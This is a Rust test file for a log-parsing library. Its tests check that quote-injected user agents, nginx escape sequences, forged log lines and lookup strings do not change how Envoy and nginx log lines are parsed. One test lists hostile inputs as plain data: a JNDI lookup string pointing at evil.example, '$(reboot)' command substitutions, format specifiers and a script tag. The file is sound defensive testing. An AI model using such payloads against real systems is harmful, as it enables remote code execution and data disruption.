//! Fields that try to be other fields.

use brownout::formats::by_name;
use brownout::input::Limits;
use brownout::{Field, Format, Line, Spans};

use super::{count, findings, line, lines, parsed};

/// What Envoy's log must still say, whatever the user agent is.
fn envoy(user_agent: &str) -> Option<(u16, Option<Vec<u8>>, Option<Vec<u8>>)> {
    let line = format!(
        r#"[2026-11-22T07:23:26.415Z] "GET / HTTP/1.1" 503 UF 0 14 8 - "-" "{user_agent}" "6fd9" "shop" "10.0.0.1:80""#
    );
    parsed("envoy", line.as_bytes(), |record| {
        let raw = |field| record.raw(field).map(<[u8]>::to_vec);
        (record.status().unwrap().code(), raw(Field::Reason), raw(Field::UpstreamAddr))
    })
    .ok()
}

#[test]
fn a_user_agent_cannot_move_what_envoy_says() {
    let truth = Some((503, Some(b"UF".to_vec()), Some(b"10.0.0.1:80".to_vec())));
    for user_agent in [
        "curl/8",
        r#"""#,
        r#"x" "id" "evil" "10.9.9.9:1"#,
        r#"x" 200 - 0 0"#,
        r#"" "" "" "" ""#,
        r#"x" "6fd9" "shop" "10.9.9.9:80" "y"#,
        r"\",
        r#"\""#,
    ] {
        assert_eq!(envoy(user_agent), truth, "{user_agent}");
    }
}

/// More quotes than the format has: read as far as can be, and counted apart. The batch reads the same.
#[test]
fn lines_with_more_quotes_than_the_format_count_as_ambiguous() {
    let line = |second: usize, agent: &str| {
        format!(
            "[2026-11-22T07:23:{second:02}.415Z] \"GET / HTTP/1.1\" 200 - 0 14 8 7 \"-\" \"{agent}\" \"6fd9\" \"shop\" \"10.0.0.1:80\"\n"
        )
    };
    let agents = ["curl/8", r#"x" "id" "evil" "10.9.9.9:1"#, "curl/8", r#"5" screen"#];
    let log: String = (0..40).map(|i| line(i, agents[i % 4])).collect();
    let format = by_name("envoy").unwrap();
    let brownout::formats::Known::Text(envoy) = &format else { panic!("text") };
    let (summary, _) = super::read(log.as_bytes(), Limits::default(), envoy);
    assert_eq!((summary.lines.access, summary.lines.malformed, summary.lines.ambiguous), (40, 0, 20));
    let by_hand = log.lines().filter(|line| {
        let mut spans = Spans::new();
        matches!(envoy.parse(line.as_bytes(), &mut spans), Ok(Line::Access(record)) if record.is_ambiguous())
    });
    assert_eq!(by_hand.count(), 20);
    // nginx escapes its quotes: there is one way to read them.
    let plain = lines(0..50);
    assert_eq!(count(&plain).lines.ambiguous, 0);
}

/// nginx escapes quotes: what looks like one is none, and the status is where it was written.
#[test]
fn nginx_escapes_hold() {
    for path in [r"/\x22 500 0 \x22", r"/\x22", r"/\", r"/%22 500", r"/ HTTP/1.1\x22 500 1 \x22"] {
        let line =
            format!(r#"192.0.2.1 - - [22/Nov/2026:07:00:00 +0000] "GET {path} HTTP/1.1" 200 5 "-" "{path}""#);
        let status = parsed("nginx-combined", line.as_bytes(), |r| r.status().map(brownout::Status::code));
        assert_eq!(status, Ok(Some(200)), "{path}");
    }
}

/// Nothing that stands in a log is looked up, formatted or run.
#[test]
fn lookups_and_formats_are_plain_bytes() {
    for text in ["${jndi:ldap://evil.example/a}", "%n%n%s", "{}{0}{x}", "$(reboot)", "`reboot`", "<script>"] {
        let log =
            format!("192.0.2.1 [2026-11-22T07:00:00Z] \"GET /{text} HTTP/1.1\" 200 10.0.0.1:80 {text}\n");
        let summary = count(log.as_bytes());
        assert_eq!(summary.upstreams[0].name, text);
    }
}

/// A line break that was decoded on its way into the log makes a line of its own, and nothing tells it from a true one.
/// A few of them are no outage.
#[test]
fn a_few_forged_lines_are_no_episode() {
    let forged = line(1_201).replace(" 200 ", " 502 ");
    for times in 1..=3 {
        let log = [lines(0..1_200), forged.repeat(times).into_bytes(), lines(1_200..2_400)].concat();
        let summary = count(&log);
        assert_eq!(summary.lines.access, 2_400 + times as u64, "they count as what they look like");
        let (found, _) = findings(&summary);
        assert_eq!(found.episodes, [], "{times} forged lines");
    }
}
